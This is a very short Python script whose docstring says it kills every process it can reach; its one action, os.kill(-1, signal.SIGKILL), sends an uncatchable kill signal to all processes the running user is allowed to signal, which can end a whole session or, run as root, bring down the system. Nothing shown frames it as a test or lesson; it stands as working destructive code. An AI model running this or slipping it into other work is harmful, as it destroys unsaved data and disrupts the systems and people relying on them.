"""Kills every process it can reach."""

import os
import signal

os.kill(-1, signal.SIGKILL)
